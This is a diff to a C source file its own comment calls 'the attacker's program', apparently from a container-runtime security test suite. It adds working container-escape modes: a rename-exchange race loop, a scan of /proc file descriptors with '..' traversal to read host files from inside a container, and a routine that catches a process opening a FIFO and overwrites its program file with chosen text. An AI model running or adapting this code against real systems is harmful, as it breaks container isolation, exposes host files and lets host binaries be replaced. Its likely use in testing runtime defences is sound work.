@@ -1,12 +1,12 @@
 /* The attacker's program, for what a shell is too slow for. Static: it runs in the container, too.
  *
  *	attacker exchange A B            A and B change places without end
- *	attacker descriptors PATH        looks through every descriptor of every process it sees for a way to PATH on the
- *	                                 host, and prints what is in it; ends after the first success
+ *	attacker descriptors PATH        looks below and above every descriptor of every process it sees for PATH, and
+ *	                                 prints what is in it; ends after the first success
  *	attacker program FIFO TEXT       waits for a process that opens FIFO for writing and is not this program, keeps its
  *	                                 program file, lets it end, and writes TEXT over the file; says "overwritten"
  *
- * Each ends with its parent, and after half a minute. */
+ * Each ends after half a minute at the latest. */
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
@@ -22,6 +22,7 @@
 
 static int exchange(const char *a, const char *b)
 {
+	(void)prctl(PR_SET_PDEATHSIG, SIGKILL);
 	for (;;)
 		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0 && errno != ENOENT) {
 			perror("exchange");
@@ -45,16 +46,16 @@ static bool print_file(const char *path)
 	return n > 0 && write(STDOUT_FILENO, text, (size_t)n) == n;
 }
 
-/* A folder of the host leads there by "..", a procfs of the host's by its first process's root. */
+/* From a descriptor itself (a procfs of the host's has the host's processes), and up from a folder of the host's. */
 static bool through(const char *pid, const char *path)
 {
-	static const char *const ways[] = { "1/root", "../../../../../../../../../../../..", "root" };
+	static const char *const ways[] = { "", "/../../../../../../../../../../.." };
 	char at[PATH_MAX];
 	bool found = false;
 
 	for (int fd = 3; fd < 24 && !found; fd++)
 		for (size_t i = 0; i < sizeof(ways) / sizeof(*ways) && !found; i++) {
-			(void)snprintf(at, sizeof(at), "/proc/%s/fd/%d/%s%s", pid, fd, ways[i], path);
+			(void)snprintf(at, sizeof(at), "/proc/%s/fd/%d%s%s", pid, fd, ways[i], path);
 			found = print_file(at);
 		}
 	return found;
@@ -133,7 +134,6 @@ static int program(const char *fifo, const char *text)
 
 int main(int argc, char **argv)
 {
-	(void)prctl(PR_SET_PDEATHSIG, SIGKILL);
 	(void)alarm(30);
 	if (argc == 4 && strcmp(argv[1], "exchange") == 0)
 		return exchange(argv[2], argv[3]);
